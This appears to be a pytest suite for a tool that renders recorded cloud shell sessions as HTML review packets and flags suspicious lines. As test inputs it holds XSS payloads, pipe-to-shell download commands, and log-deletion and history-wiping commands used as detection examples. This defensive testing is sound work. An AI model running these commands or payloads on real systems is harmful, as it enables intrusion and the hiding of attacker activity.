"""Review packets: hostile text stays text, what is missing is said, and the page works where a manager opens it."""

import base64
import copy
import hashlib
import json
import re
import shutil
import subprocess
import unicodedata
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from loglake_assets.reviews.inputs import day_lacks
from loglake_assets.reviews.page_text import duration, percentage, twin_json
from loglake_assets.reviews.session_activity.flags import FLAGS, line_flags
from loglake_assets.reviews.session_activity.packets import (
    VERDICTS,
    index_html,
    packet_html,
    runs,
    write_packets,
)
from loglake_assets.reviews.session_activity.states import STATES
from tests.browser import start_browser
from tests.conftest import Picture

Document = dict[str, Any]
TRANSCRIPT = [
    "\x1b[?2004hsh-4.2$ whoami",
    "\x1b[?2004l\rssm-user",
    "\x1b[?2004hsh-4.2$ sudo -i",
    "[root@ip-10-0-1-23 ~]# tail -2 /var/log/secure",
    "Nov  1 10:02:11 ip-10-0-1-23 sshd[812]: Accepted publickey for deploy from 10.0.9.14 port 52144 ssh2: RSA "
    "SHA256:Zk0pL8m0i5V0m1Yw2c3d4e5f6g7h8i9j0k1l2m3n4o5",
    "Nov  1 10:04:40 ip-10-0-1-23 sshd[812]: pam_unix(sshd:session): session closed for user deploy",
    "[root@ip-10-0-1-23 ~]# \x1b[01;34mls\x1b[0m\t/opt\tapp  caf\u00e9  \u65e5\u672c\u8a9e",
    "[root@ip-10-0-1-23 ~]# unset HISTFILE; systemctl stop amazon-ssm-agentt\b \b",
    "[root@ip-10-0-1-23 ~]# curl -s https://example.com/install | sh",
    "100%\rdone",
    "[root@ip-10-0-1-23 ~]# cat invoice\u202efdp.sh  # \u200bsee <b>ticket</b> & \ufffd",
    "[root@ip-10-0-1-23 ~]# exit",
]
HOSTILE = (
    "<script>document.title='pwned'</script>",
    '"><img src=x onerror="document.body.id=\'pwned\'">',
    "'><svg onload='document.title=\"pwned\"'>",
    "javascript:document.title='pwned'",
    "</style></title></textarea></head><script>document.body.id='pwned'</script>",
    "\x1b[31mred\x1b[0m\x1b]0;pwned\x07\x9b2J\x00\b\r\n\t\x7f",
    "\u202etxt.exe\u2066\u200b\ufeff\u3164\U000e0041\ud800\ufffd\u2028",
    "{{7*7}}{% include 'x' %}${7*7}",
    "a" * 300,
)


def sample(lines: list[str] | None = None) -> Document:
    """A recorded session of which everything is there, as the review writes it."""
    lines = TRANSCRIPT if lines is None else lines
    split = len(lines) // 2
    session = {
        "key": "0a1b2c3d4e5f67890",
        "f_sessionid": "0a1b2c3d4e5f67890",
        "sessionid": "anna.meier@example.com-0a1b2c3d4e5f67890",
        "state": "recorded",
        "state_reason": "",
        "day": "2026-11-01",
        "started": "2026-11-01T10:00:00Z",
        "ended": "2026-11-01T10:12:30Z",
        "ended_how": "terminated",
        "useridentity_type": "AssumedRole",
        "useridentity_arn": "arn:aws:sts::111122223333:assumed-role/"
        "AWSReservedSSO_Operator_0123456789abcdef/anna.meier@example.com",
        "useridentity_sourceidentity": None,
        "useridentity_onbehalfof_userid": "92a7b4c8-1d2e-4f3a-9b8c-7d6e5f4a3b2c",
        "useridentity_onbehalfof_identitystorearn": "arn:aws:identitystore::111122223333:identitystore/d-9067642ac7",
        "logaccountid": "111122223333",
        "awsregion": "eu-west-1",
        "target": "i-0123456789abcdef0",
        "documentname": "SSM-SessionManagerRunShell",
        "reason": "INC-4711: application does not start",
        "runasuser": "ssm-user",
        "sourceipaddress": "203.0.113.24",
        "useragent": "aws-cli/2.31.0 md/awscrt#0.28.4 ua/2.1 os/linux#6.8.0 md/arch#x86_64 lang/python#3.13.7",
        "errorcode": None,
        "errormessage": None,
        "keystroke_events": 2,
        "transcript_lines": len(lines),
        "transcript_bytes": sum(len(line.encode(errors="replace")) for line in lines),
        "api_calls": 2,
    }
    api = {"kind": "api", "errorcode": None, "awsregion": "eu-west-1", "sourceipaddress": "203.0.113.24", "object": 0}
    ssm = {"eventsource": "ssm.amazonaws.com", "about_session": True}
    return {
        "format": 1,
        "kind": "session_review_packet",
        "made_at": "2026-11-02T08:00:00Z",
        "lake": "loglake",
        "session": session,
        "gaps": [],
        "flags": [{"flag": flag, "line": n} for n, line in enumerate(lines, 1) for flag in line_flags(line)],
        "timeline": [
            {**api, **ssm, "time": "2026-11-01T10:00:00Z", "eventid": "e-1", "eventname": "StartSession"},
            {
                "time": "2026-11-01T10:03:00Z",
                "kind": "keystrokes",
                "eventid": "k-1",
                "first_line": 1,
                "lines": lines[:split],
                "continues": False,
                "object": 1,
            },
            {
                **api,
                "time": "2026-11-01T10:05:12Z",
                "eventid": "e-2",
                "eventsource": "s3.amazonaws.com",
                "eventname": "GetObject",
                "errorcode": "AccessDenied",
                "about_session": False,
            },
            {
                "time": "2026-11-01T10:09:00Z",
                "kind": "keystrokes",
                "eventid": "k-2",
                "first_line": split + 1,
                "lines": lines[split:],
                "continues": False,
                "object": 1,
            },
            {**api, **ssm, "time": "2026-11-01T10:12:30Z", "eventid": "e-3", "eventname": "TerminateSession"},
        ],
        "api_calls_not_shown": 0,
        "objects": [
            {
                "bucket": "raw-logs-111122223333",
                "key": "AWSLogs/111122223333/CloudTrail/eu-west-1/2026/11/01/"
                "111122223333_CloudTrail_eu-west-1_20261101T1015Z_Zk0pL8m0i5V0m1Yw.json.gz",
                "version_id": "3sL4kqtJlcpXroDTDmJ.rmSpXd3dIbrH",
                "etag": "9b2cf535f27731c974343645a3985328",
                "sha256": "ab" * 32,
                "records": 3,
                "table": "cloudtrail_readready",
                "ordinals": [4, 5, 6, 19],
            },
            {
                "bucket": "raw-logs-111122223333",
                "key": "cloudwatch/2026/11/01/10/stream-1-2026-11-01-10-00-11-0d3f",
                "version_id": None,
                "etag": "0f343b0931126a20f133d67c2b018a3b",
                "sha256": "cd" * 32,
                "records": 2,
                "table": "cloudwatch_readready",
                "ordinals": [0, 1],
            },
        ],
        "coverage": [coverage_document("cloudtrail_readready"), coverage_document("cloudwatch_readready")],
        "verdict": {"reviewer": None, "verdict": None, "note": None},
    }


def coverage_document(table: str, **changes: Any) -> Document:
    day = {
        "table": table,
        "day": "2026-11-01",
        "status": "built",
        "coverage_pct": 100.0,
        "commit_seq": 3,
        "run_id": "6f1c2a34",
        "committed_at": "2026-11-02T02:00:00Z",
        "unreadable_objects": 0,
        "missing_events": 0,
    }
    return {**day, **changes}


def partly() -> Document:
    """A session of which a part is missing, in every way that a packet knows."""
    document = sample()
    document["session"] |= {
        "state": "recorded_partly",
        "state_reason": "3 of its log events are in raw objects and not in the table; "
        "days in which it went on are not built: 2026-11-02.",
        "ended": None,
        "ended_how": None,
        "reason": None,
        "transcript_lines": 40,
    }
    document["gaps"] = [{"after": "2026-11-01T10:12:30Z", "before": "2026-11-01T10:44:00Z", "seconds": 1890}]
    unread = {"coverage_pct": None, "commit_seq": None, "run_id": None, "committed_at": None}
    document["coverage"] = [
        coverage_document("cloudtrail_readready", coverage_pct=None),
        coverage_document("cloudwatch_readready", coverage_pct=99.99999, missing_events=3, unreadable_objects=1),
        coverage_document("cloudwatch_readready", day="2026-11-02", status="unbuilt", **unread),
        coverage_document("bedrock_readready", status="no_source", **unread),
    ]
    document["api_calls_not_shown"] = 1200
    return document


def hostile(text: str) -> Document:
    """`partly` with the text in every field that is one, names of states and kinds excepted."""

    def poison(value: Any, name: str = "") -> Any:
        if isinstance(value, dict):
            return {key: poison(inner, key) for key, inner in value.items()}
        if isinstance(value, list):
            return [poison(inner, name) for inner in value]
        known = {"state", "kind", "status", "coverage_pct", "commit_seq"}
        return text if name not in known and (value is None or isinstance(value, str)) else value

    return {**poison(partly()), "kind": "session_review_packet"}


class Page(HTMLParser):
    """The elements, links and text of a page, as a parser that knows no script sees them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.style = self.text = ""
        self._in_style = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_style = tag == "style"
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.style += data
        else:
            self.text += data

    def attributes(self, name: str) -> list[str]:
        return [value or "" for _, attributes in self.elements for key, value in attributes.items() if key == name]

    @property
    def policy(self) -> str:
        (policy,) = (a["content"] for _, a in self.elements if a.get("http-equiv") == "Content-Security-Policy")
        return policy or ""


def pages() -> Iterator[tuple[str, Page]]:
    """Every kind of page, from every hostile text."""
    for text in HOSTILE:
        document = hostile(text)
        entry = {"session": document["session"], "href": text, "flag_count": 1}
        for html in (packet_html(document), index_html([entry], text)):
            yield html, Page(html)


# --- hostile text -----------------------------------------------------------------------------------------------------


@pytest.mark.fault(50, "hostile text in every field of a packet", "no element, no attribute")
def test_hostile_text_in_any_field_becomes_no_element_and_no_attribute() -> None:
    allowed = {tag for page in (Page(packet_html(partly())), Page(index_html([], ""))) for tag, _ in page.elements}
    assert not allowed & {"script", "img", "iframe", "link", "object", "embed", "svg", "form", "base"}
    for _, page in pages():
        assert {tag for tag, _ in page.elements} <= allowed
        assert [name for _, attributes in page.elements for name in attributes if name.startswith("on")] == []
        assert page.attributes("style") == page.attributes("src") == []


def test_every_link_leads_to_a_place_on_the_page() -> None:
    for _, page in pages():
        ids = page.attributes("id")
        assert len(ids) == len(set(ids))
        assert {link.removeprefix("#") for link in page.attributes("href")} <= set(ids)


def test_an_index_begins_with_what_to_look_at_first() -> None:
    of = {"early": "recorded", "flagged": "recorded", "denied": "denied", "lost": "lost", "new": "a state of later"}
    entries = [
        {
            "session": {**sample()["session"], "key": key, "state": state},
            "href": f"{key}.html",
            "flag_count": 5 if key in {"flagged", "denied"} else 0,
        }
        for key, state in of.items()
    ]
    hrefs = Page(index_html(entries, "Day")).attributes("href")
    assert [href.removesuffix(".html") for href in hrefs] == ["lost", "new", "flagged", "early", "denied"]


def test_a_call_after_the_sessions_end_is_marked_as_such() -> None:
    document = sample()
    assert "after the session" not in packet_html(document)
    next(entry for entry in document["timeline"] if entry["kind"] == "api")["after_session"] = True
    assert packet_html(document).count("after the session's end") == 1
    document["session"]["ended_how"] = None
    assert packet_html(document).count("after the session's last keystrokes") == 1


@pytest.mark.parametrize(
    "href",
    ["javascript:x.html", "//host/x.html", "/x.html", "../x.html", "a/../x.html", "x", "http://h/x.html", "x.html\n"],
)
def test_an_index_links_to_nothing_but_files_below_it(href: str) -> None:
    session = sample()["session"]
    assert Page(index_html([{"session": session, "href": href, "flag_count": 0}], "Day")).attributes("href") == []
    below = [{"session": session, "href": "2026-11-01/a-b.c.html", "flag_count": 0}]
    assert Page(index_html(below, "Day")).attributes("href") == ["2026-11-01/a-b.c.html"]


def test_a_page_may_load_nothing_and_run_nothing_and_has_the_one_style_its_policy_names() -> None:
    for _, page in pages():
        digest = base64.b64encode(hashlib.sha256(page.style.encode()).digest()).decode()
        assert page.policy == (
            f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'; img-src 'none'"
        )
        assert [tag for tag, _ in page.elements].count("style") == 1
        assert ("meta", {"name": "referrer", "content": "no-referrer"}) in page.elements
        assert not re.search(r"url\(|@import|expression", page.style)


@pytest.mark.fault(50, "control and bidi characters in a packet", "written out")
def test_no_character_that_acts_or_hides_reaches_the_page() -> None:
    for html, _ in pages():
        unusual = {c for c in html if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}} - {"\n"}
        assert unusual == set()
        assert "\u3164" not in html
        html.encode()


def test_what_acts_is_written_out_where_it_stood() -> None:
    html = packet_html(sample(["\x1b[31mred\x1b[0m\r", "a\u202eb\tc"]))
    assert '<span class="ctl">\\e[31m</span>red<span class="ctl">\\e[0m</span><span class="ctl">\\r</span>' in html
    assert 'a<span class="ctl">\\u{202e}</span>b<span class="ctl tab">\\t</span>c' in html


def test_text_is_shown_and_not_evaluated() -> None:
    for text in ("{{7*7}}{% include 'x' %}", "<script>1</script>", "&lt;&amp;"):
        assert text in Page(packet_html(sample(["plain", text]))).text


# --- the twin ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.fault(50, "the same in the packet's JSON", "ASCII, and the same when read")
def test_the_twin_is_ascii_and_comes_back_exactly(text: str) -> None:
    document = hostile(text)
    before = copy.deepcopy(document)
    twin = twin_json(document)
    assert twin.isascii()
    assert not re.search(r"[^\n -~]", twin)
    assert json.loads(twin) == document == before
    assert twin_json(json.loads(twin)) == twin
    assert packet_html(json.loads(twin)) == packet_html(document)


# --- what the page says -----------------------------------------------------------------------------------------------


def test_a_page_says_that_everything_is_there_where_it_was_measured_so() -> None:
    text = Page(packet_html(sample())).text
    assert "Nothing is known to be missing" in text
    assert "measured complete" in text
    assert "What may be missing:" not in text


LACKS: dict[str, Callable[[Document], Any]] = {
    "a day that is not built": lambda d: d["coverage"][0].update(status="unbuilt"),
    "a day without logs": lambda d: d["coverage"][0].update(status="no_source"),
    "an unmeasured day": lambda d: d["coverage"][0].update(coverage_pct=None),
    "a day short of an event": lambda d: d["coverage"][0].update(coverage_pct=99.9999, missing_events=1),
    "a named missing event": lambda d: d["coverage"][0].update(missing_events=1),
    "an unreadable object": lambda d: d["coverage"][0].update(unreadable_objects=1),
    "no measured day": lambda d: d["coverage"].clear(),
    "a gap": lambda d: d["gaps"].append({"after": None, "before": None, "seconds": 900}),
    "lines that are not shown": lambda d: d["session"].update(transcript_lines=13),
    "calls that are not shown": lambda d: d.update(api_calls_not_shown=1),
    "a state that lacks": lambda d: d["session"].update(state="lost"),
    "an unknown state": lambda d: d["session"].update(state="odd"),
}


@pytest.mark.parametrize("lack", LACKS)
def test_a_page_never_says_complete_where_something_may_be_missing(lack: str) -> None:
    document = sample()
    LACKS[lack](document)
    html = packet_html(document)
    assert "complete" not in html.lower().replace("autocomplete", "")
    assert '<span class="sign" aria-hidden="true">!</span>What may be missing</h2>' in html


@pytest.mark.fault(66, "a page over days of which not all is there", "it names each with its log before all else")
def test_a_page_names_the_days_that_are_not_whole_before_all_else() -> None:
    document = sample() | {"incomplete": ["typed, 2026-11-01: this day has not been built <b>."]}
    pages = ((packet_html(document), 'id="state"'), (index_html([], "None", document["incomplete"]), "aria-label"))
    for html, next_section in pages:
        assert "typed, 2026-11-01: this day has not been built <b>." in Page(html).text
        assert html.index('<section id="incomplete"') < html.index(next_section)
    assert "Not all of the logs" not in packet_html(sample()) + index_html([], "None")


@pytest.mark.fault(66, "a page over days of which some are not whole", "what is not here of a day is said once")
@pytest.mark.parametrize("document", [partly(), partly() | {"gaps": [], "api_calls_not_shown": 0}, sample()])
def test_a_page_says_each_fact_of_a_day_once(document: Document) -> None:
    lacks = [sentence for day in document["coverage"] for sentence in day_lacks(day)]
    for packet in (document, document | {"incomplete": lacks}):
        html = packet_html(packet)
        page = Page(html)
        assert [page.text.count(sentence) for sentence in lacks] == [1] * len(lacks)
        assert page.text.count("99.9999") == page.text.count("(3 missing)") == (1 if lacks else 0)
        assert ("Nothing is known to be missing" in page.text) == (not lacks)
        assert {link for link in page.attributes("href") if f'id="{link[1:]}"' not in html} == set()


@pytest.mark.fault(94, "secrets masked in a page", "the page says how many, of which kind, and where")
def test_a_page_says_what_is_masked_and_where() -> None:
    places = [{"line": 2, "character": 3, "kind": "option"}, {"line": 99, "character": 1, "kind": "url"}]
    places += [{"field": "reason", "character": 1, "kind": "option"}]
    masked = {"is_masked": True, "counts": {"option": 2, "url": 1}, "places": places}
    page = Page(packet_html(sample() | {"masked": masked}))
    assert "3 texts that look like a secret are masked" in page.text
    assert "2 x a password, key or token on a command line" in page.text
    assert "#L2" in page.attributes("href")
    assert "line 99 (not shown)" in page.text
    assert "in reason of the session" in page.text
    for unmasked in (sample(), sample() | {"masked": {"is_masked": False, "counts": {}, "places": []}}):
        assert "Nothing is masked in this packet" in packet_html(unmasked)
    none = {"is_masked": True, "counts": {}, "places": []}
    assert "No text looked like a secret" in packet_html(sample() | {"masked": none})


@pytest.mark.parametrize("state", STATES)
def test_each_state_says_in_words_what_it_means_and_why(state: str) -> None:
    document = sample([])
    document["session"] |= {"state": state, "state_reason": "because of this"}
    text = Page(packet_html(document)).text
    assert STATES[state].label in text
    assert STATES[state].meaning in text
    assert "because of this" in text


def test_flags_lead_to_their_lines_and_lines_name_their_flags() -> None:
    page = Page(packet_html(sample()))
    assert {"#L3", "#L8", "#L9", "#L10", "#L11"} <= set(page.attributes("href"))
    assert {f"L{n}" for n in range(1, 13)} <= set(page.attributes("id"))
    for name in ("sudo", "history", "logging", "download", "bidi"):
        assert FLAGS[name] in page.text
        assert re.search(rf"⚑[^\n]*{name}", page.text)


def test_a_flag_on_a_line_that_is_not_shown_has_no_link() -> None:
    document = sample()
    document["flags"] = [{"flag": "sudo", "line": 99}, {"flag": "new_flag", "line": 1}]
    html = packet_html(document)
    assert "#L99" not in html
    assert "line 99 (not shown)" in Page(html).text
    assert "A flag that this packet does not know." in html


def test_the_timeline_stands_in_time_order_and_a_cut_line_has_one_anchor() -> None:
    document = sample(["first", "sec", "ond", "third"])
    document["timeline"][3] |= {"first_line": 2, "continues": True}
    document["timeline"].reverse()
    document["timeline"].append({**document["timeline"][0], "time": None, "eventname": "Timeless"})
    page = Page(packet_html(document))
    order = [
        page.text.index(name) for name in ("StartSession", "Terminal, lines 1", "GetObject", "goes on", "Timeless")
    ]
    assert order == sorted(order)
    assert page.attributes("id").count("L2") == 1


def test_a_verdict_in_the_twin_stands_in_the_form() -> None:
    document = sample()
    document["verdict"] = {"reviewer": 'Eve "E" <x>', "verdict": "needs_follow_up", "note": "</textarea>asked"}
    page = Page(packet_html(document))
    assert 'Eve "E" <x>' in page.attributes("value")
    assert [a["value"] for _, a in page.elements if "checked" in a] == ["needs_follow_up"]
    assert "</textarea>asked" in page.text
    assert set(VERDICTS) <= set(page.attributes("value"))


def test_a_field_that_the_document_lacks_is_an_error_and_no_blank() -> None:
    document = sample()
    del document["session"]["sourceipaddress"]
    with pytest.raises(Exception, match="sourceipaddress"):
        packet_html(document)


def test_every_field_has_a_label_and_every_part_a_heading() -> None:
    page = Page(packet_html(partly()))
    ids = page.attributes("id")
    inputs = [a["id"] for tag, a in page.elements if tag in {"input", "textarea"}]
    assert sorted(i or "" for i in inputs) == sorted(page.attributes("for"))
    assert set(page.attributes("aria-labelledby")) <= set(ids)
    assert {"header", "main", "footer", "nav", "h1"} <= {tag for tag, _ in page.elements}
    assert ("html", {"lang": "en"}) in page.elements


def test_a_long_transcript_is_a_page() -> None:
    html = packet_html(sample([f"[root@ip ~]# echo {n}" for n in range(2_500)]))
    assert html.count('<div class="line"') == 2_500


# --- files ------------------------------------------------------------------------------------------------------------


def with_key(key: str) -> Document:
    document = sample([])
    document["session"]["key"] = key
    return document


def test_packets_are_written_beside_each_other_and_again(tmp_path: Path) -> None:
    for _ in range(2):
        paths = write_packets(tmp_path / "day", [sample(), with_key("denied:e-1")], "1 November 2026")
    assert sorted(paths) == sorted((tmp_path / "day").iterdir())
    assert [paths[0].name, paths[1].name, paths[-1].name] == [
        "0a1b2c3d4e5f67890.html",
        "0a1b2c3d4e5f67890.json",
        "index.html",
    ]
    assert json.loads(paths[1].read_text()) == sample()
    links = Page(paths[-1].read_text()).attributes("href")
    assert [tmp_path / "day" / link for link in links] == [p for p in paths[:-1] if p.suffix == ".html"]


def test_no_key_leads_out_of_the_folder_or_onto_another_packet(tmp_path: Path) -> None:
    folder = tmp_path / "packets"
    keys = [
        "../../x",
        "/etc/x",
        "..",
        "",
        "index",
        "INDEX",
        "a/b",
        "a_b",
        "a_b",
        "A_B",
        ".hidden",
        "\ud800",
        "k" * 5000,
        "a\0b",
    ]
    paths = write_packets(folder, map(with_key, keys), "Hostile keys")
    assert sorted(tmp_path.rglob("*.*")) == sorted(paths)
    assert len({path.name.lower() for path in paths}) == 2 * len(keys) + 1
    assert all(path.parent == folder and re.fullmatch(r"\w[\w.-]*", path.name, re.ASCII) for path in paths)
    assert {json.loads(p.read_text())["session"]["key"] for p in paths if p.suffix == ".json"} == set(keys)


def test_a_link_in_the_folder_is_replaced_and_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.write_text("untouched")
    folder = tmp_path / "packets"
    folder.mkdir()
    (folder / "index.html").symlink_to(outside)
    write_packets(folder, [], "None")
    assert outside.read_text() == "untouched"
    assert "There is no session here." in (folder / "index.html").read_text()


# --- flags ------------------------------------------------------------------------------------------------------------

FIRE = {
    "secret": [
        "sh-4.2$ mysql -u root -pHunter2Zz9 shop",
        "export DB_PASSWORD=Hunter2Zz9",
        "$ curl -u bob:Hunter2Zz9 https://example.com",
        "mysql -p\x1b[31mHunter\x1b[0m2Zz9",
    ],
    "sudo": [
        "sh-4.2$ sudo -i",
        "[ssm-user@ip-10-0-0-1 bin]$ su - root",
        "A=1 /usr/bin/sudo id",
        "ls && doas id",
        "pkexec sh",
        "\x1b[01;32m$ \x1b[0ms\x1b[0mu\u200bdo id",
        "$ sux\b\x1b[Kdo id",
        "xx\rsudo id",
        "aws --profile p sts assume-role --role-arn r",
    ],
    "history": [
        "unset HISTFILE",
        "export HISTCONTROL=ignorespace",
        "HISTSIZE=0",
        "history -c",
        "[u@history ~]$ history -cw",
        "rm -f ~/.bash_history",
        "$ > ~/.bash_history",
        "cat /dev/null >| /root/.zsh_history",
        "truncate -s 0 .bash_history",
        "set +o history",
    ],
    "logging": [
        "sudo systemctl stop amazon-ssm-agent",
        "systemctl --now disable rsyslog",
        "service auditd stop",
        "pkill -9 auditd",
        "journalctl --vacuum-time=1s",
        "journalctl --rotate",
        "auditctl -e 0",
        "aws cloudtrail stop-logging --name t",
        "aws --region eu-west-1 cloudtrail delete-trail --name t",
        "aws cloudtrail put-event-selectors --trail-name t",
        "aws logs delete-log-stream --log-group-name g",
        "aws logs put-retention-policy --retention-in-days 1",
        "rm -rf /var/log/secure",
        ": > /var/log/wtmp",
        "cp /dev/null /var/log/messages",
        "sed -i /ssm-user/d /var/log/auth.log",
        "vim /etc/audit/auditd.conf",
        "yum -y remove amazon-ssm-agent",
    ],
    "hidden_input": ["stty -echo", "$ stty raw -echo", "$ read -s pw", "read -rsp 'x' pw", "while read -s x; do"],
    "download": [
        "curl -s https://h/i | sh",
        "wget -qO- h | sudo -E bash -",
        "curl h | gunzip | /bin/bash",
        "bash <(curl -s h)",
        'sh -c "$(curl -fsSL h)"',
        "iwr http://h | iex",
    ],
    "bidi": ["a\u202eb", "a\u2066b", "\u200f"],
    "invisible": ["su\u200bdo", "\ufeffx", "a\u00adb", "a\u3164"],
    "replaced_characters": ["caf\ufffd"],
    "backspace": ["ab\b \b"],
    "carriage_return": ["100%\rdone", "typed\x1b[?2004l\rshown"],
    "control_sequence": ["\x1b[0mred", "\x9b2J", "a\x00b", "\x07", "\x1b]0;title\x07", "\x1bc"],
}
ORDINARY = [
    "",
    "\x1b[?2004hsh-4.2$ ls -la",
    "\x1b[?2004l\rtotal 12\r",
    "total 12\r\n",
    "drwxr-xr-x 2 root root 4096 Nov  1 10:00 log",
    "a\tb\tc",
    "caf\u00e9 \u65e5\u672c\u8a9e \u05e9\u05dc\u05d5\u05dd \u2714\ufe0f done",
    "ssm-user is not in the sudoers file.",
    "sudo: command not found",
    "apt install sudo",
    "Su Mo Tu We Th Fr Sa",
    "echo $su",
    "cat /var/log/messages",
    "echo started >> /var/log/app.log",
    "systemctl status amazon-ssm-agent",
    "ps aux | grep auditd",
    "journalctl -u nginx",
    "aws cloudtrail lookup-events",
    "aws logs tail group",
    "aws sts get-caller-identity",
    "curl -O https://h/i",
    "curl -s h | jq .",
    "curl -s h | python3 -m json.tool",
    "history",
    "history | tail -5",
    "cat ~/.bash_history > /tmp/copy",
    "HISTSIZE=1000",
    "read -r line",
    "stty -a",
    "rm notes.txt",
]
EXAMPLES = [(flag, line) for flag, lines in FIRE.items() for line in lines]


@pytest.mark.parametrize(("flag", "line"), EXAMPLES, ids=[f"{flag}-{n}" for n, (flag, _) in enumerate(EXAMPLES)])
def test_a_flag_fires_on(flag: str, line: str) -> None:
    assert flag in line_flags(line)


@pytest.mark.parametrize("line", ORDINARY, ids=range(len(ORDINARY)))
def test_no_flag_fires_on_an_ordinary_line(line: str) -> None:
    assert line_flags(line) == ()


def test_every_flag_has_an_example_and_a_sentence() -> None:
    assert set(FIRE) == set(FLAGS)
    assert all(sentence.endswith(".") for sentence in FLAGS.values())


HOSTILE_UNITS = (
    *("\x1b", "\x1b[", "\x1b]0;", "\x9d", "\x9b0", "\x1b[0", "\b", "a\b", "\ra", "\r", " ", "\t", "\u200b", "\u202e"),
    *("=", "a=", "$a=;", "; a=a ", "a/", "./", "$ ", "x;", "|  ", "> x_", "sh $(", "curl |", "| sudo -x ", "iwr "),
    *("rm ", "su ", "rm _histor ", "HISTSIZE=", "set +o ", "read -e ", "sed -i ", "service auditd ", "if then do "),
    *("aws logs ", "aws ssm delete-document "),
)


@pytest.mark.parametrize("unit", HOSTILE_UNITS, ids=repr)
@pytest.mark.parametrize("start", ["", "\x1b]", "curl "], ids=repr)
def test_a_hostile_line_of_33_000_characters_ends(unit: str, start: str) -> None:
    line = (start + unit * 33_000)[:33_000]
    assert set(line_flags(line)) <= set(FLAGS)
    assert len(packet_html(sample([line]))) > 33_000


# --- small parts ------------------------------------------------------------------------------------------------------


def test_numbers_are_for_people() -> None:
    assert [duration(s) for s in (0, 5, 184, 3720)] == ["0 s", "5 s", "3 min 4 s", "1 h 2 min"]
    assert [percentage(p) for p in (100.0, 99.99999, 0.0, None)] == ["100 %", "99.9999 %", "0 %", None]
    assert runs([7, 2, 1, 3, 3]) == [(1, 3), (7, 7)]


# --- a real browser ---------------------------------------------------------------------------------------------------


@pytest.fixture
def browse(tmp_path: Path) -> Callable[..., str]:
    program = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if program is None:
        pytest.skip("no Chromium on PATH: the pages were checked by a parser only")

    def run(*arguments: str) -> str:
        command = [program, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path / 'profile'}"]
        done = subprocess.run([*command, *arguments], capture_output=True, text=True, timeout=60, check=True)
        return done.stdout

    return run


WIDTHS = (360, 720, 1000)
# Measures a page from outside, in frames of these widths: the page itself may run nothing.
FRAMES = """<!DOCTYPE html><title>waiting</title>{frames}<script>
addEventListener("load", () => {{
  const pages = [...document.querySelectorAll("iframe")].map(frame => frame.contentDocument.documentElement);
  document.title = pages.map(page => page.scrollWidth - page.clientWidth).join();
}});</script>"""


def hidden_widths(folder: Path, page: str, browse: Callable[..., str]) -> list[int]:
    """How many pixels of the page lie outside of a window of each of the widths."""
    frames = "".join(f'<iframe src="{page}" width="{width}" height="800"></iframe>' for width in WIDTHS)
    (folder / "frames.htm").write_text(FRAMES.format(frames=frames))
    measured = browse("--allow-file-access-from-files", "--dump-dom", (folder / "frames.htm").as_uri())
    found = re.search(r"<title>([\d,]+)</title>", measured)
    assert found, "the page did not load"
    return [int(hidden) for hidden in found[1].split(",")]


@pytest.mark.stack
def test_the_hostile_text_does_run_on_a_page_that_lets_it(tmp_path: Path, browse: Callable[..., str]) -> None:
    page = tmp_path / "careless.html"
    page.write_text(f"<!DOCTYPE html><title>x</title><body>{HOSTILE[0]}{HOSTILE[1]}")
    assert {"<title>pwned", 'id="pwned"'} <= set(
        re.findall(r'<title>pwned|id="pwned"', browse("--dump-dom", page.as_uri()))
    )


@pytest.mark.stack
def test_nothing_runs_and_nothing_is_cut_off_in_a_browser(tmp_path: Path, browse: Callable[..., str]) -> None:
    folder = tmp_path / "packets"
    lines = [*HOSTILE, "\u0635\u0641\u062d\u0629 rm", "wide" * 2000]
    attacked = hostile("".join(HOSTILE))
    attacked["timeline"][1]["lines"] = lines
    partial = partly()
    partial["session"]["key"] = "partly"
    written = write_packets(folder, [sample(), partial, attacked], "".join(HOSTILE))
    paths = [path for path in written if path.suffix == ".html"]
    for path in paths:
        page = browse("--dump-dom", path.as_uri())
        assert 'id="pwned"' not in page
        assert "<title>pwned" not in page
        assert "<script" not in page
        assert hidden_widths(folder, path.name, browse) == [0] * len(WIDTHS), f"{path.name} scrolls sideways"
        for width, height in ((360, 800), (1200, 900)):
            image = tmp_path / f"{path.stem}-{width}.png"
            browse(f"--screenshot={image}", f"--window-size={width},{height}", "--hide-scrollbars", path.as_uri())
            assert image.read_bytes().startswith(b"\x89PNG")


def test_its_reader_sees_the_state_and_where_to_look_first(tmp_path: Path, picture: Picture) -> None:
    written = write_packets(tmp_path / "packets", [sample()], "who='anna'")
    (path,) = (path for path in written if path.suffix == ".html" and path.name != "index.html")
    with start_browser(tmp_path / "profile", "--window-size=1000,900", "--hide-scrollbars") as browser:
        with browser.page(path.as_uri()) as page:
            said = page.read("Session of anna.meier@example.com", "Recorded", "Look here first", "sudo")
            assert said.index("Recorded") < said.index("The session") < said.rindex("Look here first")
            picture("packet", page, 1000)
